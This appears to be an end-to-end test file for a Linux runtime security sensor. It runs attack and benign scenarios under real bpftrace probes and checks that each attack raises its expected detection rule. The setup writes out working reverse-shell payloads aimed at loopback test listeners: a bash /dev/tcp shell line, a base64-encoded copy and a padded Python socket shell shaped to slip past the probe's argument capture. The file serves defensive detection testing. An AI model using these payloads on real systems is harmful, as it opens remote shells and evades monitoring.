/**
 * The behaviour corpus live (test/corpus): every scenario runs as real processes, one after another,
 * under one real `vigil up` (real bpftrace with every probe, NATS, chDB, the built-in rules and the
 * vendored Sigma rules). Then the alerts are read back and attributed to scenarios by process
 * ancestry: every attack must raise one of its expected rules (any severity), no benign scenario may
 * raise anything at high or critical. Peers are loopback listeners started here; the "pool" is a
 * stratum speaker on 127.0.0.1:443. With VIGIL_RECORD_CORPUS=1 each scenario's events are written to
 * test/corpus/fixtures/<scenario>.ndjson for the replay test (control-plane/src/detect/corpus.test.ts).
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PROBE_NAMES } from '@vigil/sensor';
import type { AlertV1 } from '@vigil/schema';
import { freePort, REPO, startVigil, tempDir, vigilJson, waitFor } from '../support/harness.js';
import { startPeers, type Peers } from '../corpus/peers.js';
import { referenceEvents, scenarioEvents } from '../corpus/recorder.js';
import { nowNs, type RunRecord, runScenario } from '../corpus/runner.js';
import { FIXTURES_DIR, loadCorpus } from '../corpus/scenario.js';
import { alertsOf, classTable, type Verdict, verdictOf } from '../corpus/verdict.js';

const HOST = `corpus-${process.pid}`;
const RECORD = process.env.VIGIL_RECORD_CORPUS === '1';
/** Those that stop or kill the sensor's probes run last: the sensor may stay blind a while after. */
/** VIGIL_CORPUS_ONLY (a regular expression on scenario names) runs a part of the corpus while working on it. */
const ONLY = process.env.VIGIL_CORPUS_ONLY ? new RegExp(process.env.VIGIL_CORPUS_ONLY) : undefined;
const SCENARIOS = loadCorpus()
  .filter((s) => !ONLY || ONLY.test(s.name))
  .sort((a, b) => Number(!!a.disturbsSensor) - Number(!!b.disturbsSensor));
const dir = tempDir('corpus');
const homes = `/home/vigil-corpus-${process.pid}`;
const userName = `vcorpus${process.pid % 100000}`;
const gpuNode = join(dir, 'nvidiactl');
/** The corpus's compiled helpers: in a home folder, as a user's own tools are (not in /tmp). */
const bin = join(homes, '.local', 'bin');
let api = '';
let up: ReturnType<typeof startVigil>;
let peers: Peers;
const records: RunRecord[] = [];
/** Per scenario that stopped or killed a probe: when the probes ran again. */
const disturbedUntil = new Map<string, bigint>();
let alerts: AlertV1[] = [];
const verdicts: Verdict[] = [];
/** The pids of `vigil up`, the sensor and its bpftrace processes during the run. */
const sensorPids = new Set<number>();

type Status = { sensors: { host: string; probes: { state: string }[] }[] };

/** The sensor's bpftrace processes: the descendants of `vigil up` named bpftrace. */
function bpftraces(): { pid: number; ppid: number }[] {
  const ps = execFileSync('ps', ['-e', '-o', 'pid=,ppid=,comm='], { encoding: 'utf8' })
    .trim()
    .split('\n')
    .map((l) => l.trim().split(/\s+/))
    .map(([pid, ppid, comm]) => ({ pid: Number(pid), ppid: Number(ppid), comm: comm ?? '' }));
  const mine = new Set([up.child.pid!]);
  for (let grew = true; grew; ) {
    grew = false;
    for (const p of ps)
      if (mine.has(p.ppid) && !mine.has(p.pid)) {
        mine.add(p.pid);
        grew = true;
      }
  }
  return ps.filter((p) => p.comm === 'bpftrace' && mine.has(p.pid));
}

const probesRunning = () => {
  const s = vigilJson<Status>(api, ['status']);
  const probes = s.sensors.find((x) => x.host === HOST)?.probes ?? [];
  return probes.length > 0 && probes.every((p) => p.state === 'running') && bpftraces().length > 0;
};

before(async () => {
  execFileSync('mknod', [gpuNode, 'c', '1', '7']);
  // Ordinary work lives in a home folder; the job's virtual environment is made there once.
  mkdirSync(homes, { mode: 0o755 });
  process.on('exit', () => {
    rmSync(homes, { recursive: true, force: true });
    spawnSync('userdel', [userName], { stdio: 'ignore' });
  });
  chmodSync(homes, 0o755);
  mkdirSync(bin, { recursive: true });
  execFileSync('cc', ['-O2', '-o', join(bin, 'nv-ioctl'), join(REPO, 'test', 'support', 'nv-ioctl.c')]);
  execFileSync('cc', ['-O2', '-o', join(bin, 'pidreuse'), join(REPO, 'test', 'corpus', 'assets', 'pidreuse.c')]);
  execFileSync('python3', ['-m', 'venv', '--without-pip', join(homes, '.venv')]);
  const userHome = join(homes, 'corpus-user');
  execFileSync('useradd', ['-M', '-d', userHome, '-s', '/bin/sh', userName]);
  const uid = Number(execFileSync('id', ['-u', userName], { encoding: 'utf8' }).trim());
  const gid = Number(execFileSync('id', ['-g', userName], { encoding: 'utf8' }).trim());
  mkdirSync(join(userHome, '.ssh'), { recursive: true, mode: 0o700 });
  chownSync(userHome, uid, gid);
  chownSync(join(userHome, '.ssh'), uid, gid);
  peers = await startPeers();

  const apiPort = await freePort();
  api = `http://127.0.0.1:${apiPort}`;
  up = startVigil([
    'up',
    ...['--data-dir', join(dir, 'data'), '--api-port', String(apiPort), '--nats-port', String(await freePort())],
    ...['--host-id', HOST, '--gpu-device', `${gpuNode}=nvidia`, '--window-seconds', '1'],
    ...PROBE_NAMES.flatMap((p) => ['--probe', p]),
    ...['--detections', join(REPO, 'rules', 'sigma-linux')],
  ]);
  await waitFor('the sensor running every probe', probesRunning, 120_000, 500).catch((err: Error) => {
    throw new Error(`${err.message}\n${up.logs.join('').slice(-3000)}`);
  });
  const python = execFileSync('python3', ['-c', 'import sys; print(sys.executable)'], { encoding: 'utf8' }).trim();
  // Served at {http}/x and coded in {revshellB64}: bash opens the socket itself, then a shell runs on it.
  const shellPayload = `exec 3<>/dev/tcp/127.0.0.1/${peers.sink}; exec /bin/sh <&3 >&3 2>&3\n`;
  peers.setPayload(shellPayload);
  const values: Record<string, string> = {
    repo: REPO.replace(/\/$/, ''),
    assets: join(REPO, 'test', 'corpus', 'assets'),
    bin,
    gpu: gpuNode,
    python,
    venv: join(homes, '.venv'),
    userHome,
    sink: String(peers.sink),
    http: String(peers.http),
    closed: String(await freePort()),
    revshellB64: Buffer.from(shellPayload).toString('base64'),
    // The socket code starts past the probe's 200 bytes per argument.
    longPythonRevshell: `${'# '.padEnd(240, 'x')}\nimport socket,os\ns=socket.create_connection(('127.0.0.1',${peers.sink}))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\nos.execv('/bin/sh',['sh'])\n`,
  };
  for (const scenario of SCENARIOS) {
    const [bt] = bpftraces();
    values.bpftrace = String(bt?.pid ?? 0);
    values.sensor = String(bt?.ppid ?? 0);
    for (const p of [up.child.pid, bt?.pid, bt?.ppid]) if (p) sensorPids.add(p);
    records.push(
      await runScenario(scenario, { values, scratch: dir, homes, user: { uid, gid, home: userHome }, freePort }),
    );
    if (scenario.disturbsSensor) {
      await waitFor('the probes running again', probesRunning, 90_000, 500);
      // The health alerts come from the heartbeats after the restart.
      await new Promise((r) => setTimeout(r, 3000));
      disturbedUntil.set(scenario.name, nowNs());
    }
    await new Promise((r) => setTimeout(r, 300));
  }
  // Let the last events travel and be evaluated.
  await new Promise((r) => setTimeout(r, 5000));
  alerts = vigilJson<AlertV1[]>(api, ['alerts', '--host', HOST, '--since', '1h', '--limit', '10000']);
  if (RECORD) await recordFixtures();
});

/** Each scenario's events to its fixture, three queries at a time (the API runs three at once). */
async function recordFixtures() {
  const queue = records.filter((r) => !r.notRun);
  const worker = async () => {
    for (let r = queue.shift(); r; r = queue.shift()) {
      const own = await scenarioEvents(api, HOST, r);
      writeFileSync(join(FIXTURES_DIR, `${r.scenario.name}.ndjson`), own.map((e) => `${JSON.stringify(e)}\n`).join(''));
    }
  };
  await Promise.all([worker(), worker(), worker()]);
  const index = {
    $comment:
      'Written by test/e2e/behaviour-corpus.test.ts with VIGIL_RECORD_CORPUS=1: the sensor pids of the run (sensor.tamper knows them from heartbeats).',
    kernel: readFileSync('/proc/sys/kernel/osrelease', 'utf8').trim(),
    sensorPids: [...sensorPids].sort((a, b) => a - b),
    references: await referenceEvents(api, HOST),
  };
  writeFileSync(join(FIXTURES_DIR, 'index.json'), `${JSON.stringify(index, null, 2)}\n`);
}

after(async () => {
  console.log(`# behaviour corpus on this branch\n${classTable(verdicts).replace(/^/gm, '# ')}`);
  await peers?.close();
  assert.equal(await up?.stop(), 0);
});

for (const scenario of SCENARIOS) {
  const what =
    scenario.kind === 'attack' ? `raises ${scenario.expect!.join(' or ')}` : 'raises nothing at high or critical';
  test(`${scenario.kind} ${scenario.class}/${scenario.name} ${what}`, () => {
    const r = records.find((x) => x.scenario.name === scenario.name);
    assert.ok(r, 'it ran');
    const mine = alertsOf(alerts, r, disturbedUntil.get(scenario.name));
    const v = verdictOf(scenario, mine, !r.notRun);
    verdicts.push(v);
    assert.ok(!r.notRun, `${scenario.name} did not run: ${r.notRun}`);
    assert.ok(r.roots.length > 0, 'its steps started processes');
    assert.ok(
      v.ok,
      scenario.kind === 'attack'
        ? `expected ${scenario.expect!.join(' or ')}; raised: ${v.seen.join(', ') || 'nothing'}`
        : `raised at high/critical: ${mine
            .filter((a) => a.severity === 'high' || a.severity === 'critical')
            .map((a) => `${a.ruleId} (${a.severity}): ${a.reason}`)
            .join('; ')}`,
    );
  });
}

test('every recorded fixture names a scenario of the corpus', () => {
  const names = new Set(loadCorpus().map((s) => s.name));
  const stale = readdirSync(FIXTURES_DIR)
    .filter((f) => f.endsWith('.ndjson'))
    .filter((f) => !names.has(f.replace(/\.ndjson$/, '')));
  assert.deepEqual(stale, []);
});
